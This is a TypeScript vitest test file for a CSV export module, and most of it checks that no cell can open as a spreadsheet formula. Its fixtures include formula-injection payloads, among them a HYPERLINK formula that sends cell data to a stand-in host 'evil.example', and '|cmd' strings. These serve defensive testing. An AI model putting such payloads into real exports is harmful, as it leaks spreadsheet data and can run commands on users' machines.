import { expect, test } from 'vitest';
import { type CsvCell, csvRows, csvStart } from './csv.ts';

const csvFile = (rows: CsvCell[][]) => csvStart + csvRows(rows);

test('every cell is quoted', () => {
  expect(
    csvFile([
      ['a', 1, null, 'x'],
      ['"b", c\r\nd', '', 'é', ';'],
    ]),
  ).toBe('\ufeff"a";"1";"";"x"\r\n"""b"", c\r\nd";"";"é";";"\r\n');
});

test("times are written in the workshop's time zone, in a format that every spreadsheet program reads", () => {
  const moments = ['2026-11-23T23:05:59Z', '2026-07-01T05:00:00Z'].map((text) => new Date(text));
  expect(csvFile([moments])).toBe('\ufeff"2026-11-24 00:05";"2026-07-01 07:00"\r\n');
});

test('a telephone number stays as typed, after a blank that makes spreadsheet programs read it as text', () => {
  for (const number of ['+41 26 000 00 00', '0261234567', '00 41 (0)26 123.45.67', '026/123 45 67'])
    expect(csvFile([[number]])).toBe(`\ufeff"\u2007${number}"\r\n`);
  for (const text of ['a=1', "'=1", 'a-b, c+d', 'S235 JRG2', 'nobody@example.ch'])
    expect(csvFile([[text]])).toBe(`\ufeff"${text}"\r\n`);
});

const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const before = ['', ';', ',', '\t', '\r\n', '\n', '\r', 'x;', 'a\t', 'line\n', '; ', ', "', '\n"', ',\u00a0', '\u2028'];

test('no part of a file begins like a formula, wherever a reader splits it', () => {
  for (const sign of signs) {
    for (const start of before) {
      const file = csvFile([[1, `${start}${sign}1+1|cmd`, 'x']]);
      const pieces = file.split(/[;,\t\v\f\r\n\u0085\u2028\u2029]/).map((piece) => piece.replace(/^[ "\ufeff]+/, ''));
      expect(
        pieces.filter((piece) => signs.includes(piece[0] ?? '')),
        JSON.stringify(file),
      ).toEqual([]);
    }
  }
});

const hostile = [
  'x;=HYPERLINK("http://evil.example/?"&A1;"x")',
  'a\t=1+1',
  'first line\n=1+1+cmd\r\n@SUM(A1)\n-2+3',
  '";"=1+1',
  ',"\t=1+1',
  '"\n"=1+1',
];
const harmless = ['-5', '+41 26 000 00 00', 'S235 - 3 mm', 'nobody@example.ch'];

test.for([';', ',', '\t'])('a program that splits the file at %j finds no formula in any cell', (separator) => {
  const file = csvFile([['1', ...hostile, ...harmless]])
    .replace(csvStart, '')
    .trimEnd();
  const cells = parse(file, separator);
  expect(cells.length).toBeGreaterThan(3);
  expect(cells.filter((one) => signs.includes(one.replace(/^[ \t"]+/, '')[0] ?? ''))).toEqual([]);
  if (separator === ';') expect(cells.slice(-4).map((one) => one.replace('\u2007', ''))).toEqual(harmless);
});

/** Reads like Python's csv module and Excel: only a quote at the start of a cell opens a quoted part. */
function parse(file: string, separator: string): string[] {
  const cells = [''];
  let isQuoted = false;
  for (let at = 0; at < file.length; at += 1) {
    const sign = file[at] ?? '';
    const end = cells.length - 1;
    if (isQuoted && file.startsWith('""', at)) cells[end] += file.charAt(at++);
    else if (isQuoted && sign === '"') isQuoted = false;
    else if (!isQuoted && sign === '"' && cells[end] === '') isQuoted = true;
    else if (!isQuoted && (sign === separator || /[\r\n]/.test(sign))) cells.push('');
    else cells[end] += sign;
  }
  return cells;
}

test('a text of blanks alone is written without delay', () => {
  expect(csvFile([[' '.repeat(100_000), '\n'.repeat(100_000), '" '.repeat(50_000)]])).toHaveLength(350_013);
});
